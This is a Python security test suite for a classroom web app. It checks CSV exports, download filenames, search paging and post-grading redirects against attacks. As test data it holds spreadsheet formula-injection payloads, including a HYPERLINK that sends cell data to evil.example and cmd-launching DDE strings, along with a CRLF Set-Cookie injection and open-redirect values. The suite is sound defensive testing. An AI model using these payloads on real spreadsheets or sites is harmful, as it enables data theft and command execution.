"""Attacks on downloads, tried against the served app (gunicorn, shipped settings)."""
from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

from corroborate.web.extensions import db
from corroborate.web.models import Response
from tests import factories as f
from tests.security.visitor import Visitor, start_attempt

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"Grades")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
ODD_NAMES = ("История 10Б", "Żółć 2", "a\r\nSet-Cookie: x=1")


def _teacher(server, username: str) -> tuple[int, Visitor]:
    teacher_id = f.user(server.app, username, "teacher")
    visitor = Visitor(server)
    visitor.sign_in(username)
    return teacher_id, visitor


def _assert_attachment(response, filename: str) -> None:
    """A 200 download named as RFC 6266 says: ``filename*=UTF-8''…`` holds the name (without control characters),
    ``filename="…"`` a fallback in plain ASCII; and no header came out of the name."""
    assert response.status_code == 200, (filename, response.status_code)
    disposition = response.headers["Content-Disposition"]
    assert disposition.isascii() and disposition.isprintable(), disposition
    assert disposition.startswith('attachment; filename="'), disposition
    fallback, encoded = disposition.removeprefix('attachment; filename="').split("\"; filename*=UTF-8''")
    assert fallback and not set(fallback) & set('"\\%'), disposition
    assert unquote(encoded) == "".join(c for c in filename if c.isprintable()), disposition
    assert "x" not in response.cookies and "x=1" not in response.headers.get("Set-Cookie", ""), response.headers


def formula_injection_in_csv_downloads(server):
    """Students named as spreadsheet formulas show as text (a leading ') in the gradebook CSV; the quiz CSV export has
    no cell a spreadsheet would run either, while its numbers stay numbers."""
    teacher_id, teacher = _teacher(server, "formula-teacher")
    students = tuple(f.user(server.app, f"formula-{n}", name=name) for n, name in enumerate(FORMULAS))
    class_id = f.classroom(server.app, teacher_id, "Formulas", students)
    f.assignment(server.app, class_id)
    response = teacher.get(f"/teach/classes/{class_id}/gradebook.csv")
    assert response.status_code == 200, response.status_code
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names == {f"formula-{n}": "'" + name for n, name in enumerate(FORMULAS)}, names
    exported = teacher.get("/teach/modules/sample/export/csv")
    assert exported.status_code == 200, exported.status_code
    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline=""))
             for cell in row]
    assert cells and all(re.fullmatch(r"[+-]?[0-9.]+", cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                         for cell in cells)


def huge_negative_and_garbage_search_pages(server):
    """The search's page number is clamped: a 64-bit overflow, a negative, a word or a float give a page, not a 500."""
    visitor = Visitor(server)
    for page in ("9223372036854775807", "9" * 50, "-5", "abc", "1e9", "0", "", "\u0663", "2"):
        response = visitor.get("/search", params={"q": "kirov", "page": page})
        assert response.status_code == 200, (page, response.status_code)
    beyond = visitor.get("/search", params={"q": "kirov", "page": "9223372036854775807"}).text
    assert "no more results" in beyond and 'href="/search?q=kirov"' in beyond


def unicode_and_line_breaks_in_download_names(server):
    """Gradebook CSVs of classes named in Cyrillic, Polish or with a CRLF and a header answer 200 with an RFC 6266
    Content-Disposition and no injected header; so do the quiz exports and a class's login slips."""
    teacher_id, teacher = _teacher(server, "names-teacher")
    student = f.user(server.app, "names-student")
    for name in ODD_NAMES:
        class_id = f.classroom(server.app, teacher_id, name, (student,))
        _assert_attachment(teacher.get(f"/teach/classes/{class_id}/gradebook.csv"),
                           f"grades-{name}.csv".replace(" ", "-"))
    for fmt, suffix in (("csv", ".csv"), ("gift", ".gift.txt"), ("moodle-xml", ".moodle.xml"), ("qti", ".qti.zip")):
        _assert_attachment(teacher.get(f"/teach/modules/sample/export/{fmt}"), "sample" + suffix)
    preview = teacher.post(f"/teach/classes/{class_id}/roster", page=f"/teach/classes/{class_id}",
                           files={"roster": ("roster.csv", "name,username\nИван Петров,names-ivan\n".encode())})
    assert preview.status_code == 200 and "names-ivan" in preview.text, preview.status_code
    slips = teacher.post(f"/teach/classes/{class_id}/roster/confirm", {"name": "Иван Петров", "username": "names-ivan"},
                         page=f"/teach/classes/{class_id}")
    _assert_attachment(slips, f"login-slips-{f.join_code(server.app, class_id)}.pdf")


def open_redirect_after_grading(server):
    """Marking an essay with a good level never redirects to ``back`` when it leaves the site; a bad level shows the
    marking form again (400, nothing saved), whose ``back`` field carries no address off the site either."""
    teacher_id, teacher = _teacher(server, "redirect-teacher")
    student_id = f.user(server.app, "redirect-student")
    class_id = f.classroom(server.app, teacher_id, "Redirects", (student_id,))
    assignment_id = f.assignment(server.app, class_id)
    student = Visitor(server)
    student.sign_in("redirect-student")
    attempt_id, _ = start_attempt(student, assignment_id)
    saved = student.send("PUT", f"/api/attempts/{attempt_id}/answers/q-essay", page="/learn/",
                         json={"value": "Davies was there.", "seq": 1})
    assert saved.status_code == 200, saved.status_code
    assert student.send("POST", f"/api/attempts/{attempt_id}/submit", page="/learn/").status_code == 200
    with server.app.app_context():
        response_id = db.session.query(Response).filter_by(attempt_id=attempt_id, item_id="q-essay").one().id
    for level in ("no-such-level", "emergent"):
        for back in ("//evil.example", "https://evil.example", "/\\evil.example", "\t//evil.example",
                     "javascript:alert(1)"):
            answer = teacher.post(f"/teach/responses/{response_id}/grade", {"level": level, "back": back},
                                  page="/teach/grading")
            location = answer.headers.get("Location", "")
            if level == "no-such-level":
                assert answer.status_code == 400 and not location, (level, back, answer.status_code, location)
                assert "evil" not in answer.text and "javascript:" not in answer.text, (level, back)
                continue
            assert answer.status_code == 302, (level, back, answer.status_code)
            assert location.startswith("/") and not location.startswith(("//", "/\\")) and "evil" not in location, \
                (level, back, location)
    kept = teacher.post(f"/teach/responses/{response_id}/grade", {"level": "emergent", "back": "/teach/grading#x"},
                        page="/teach/grading")
    assert kept.headers["Location"] == "/teach/grading#x"


SERVED = [formula_injection_in_csv_downloads, huge_negative_and_garbage_search_pages,
          unicode_and_line_breaks_in_download_names, open_redirect_after_grading]
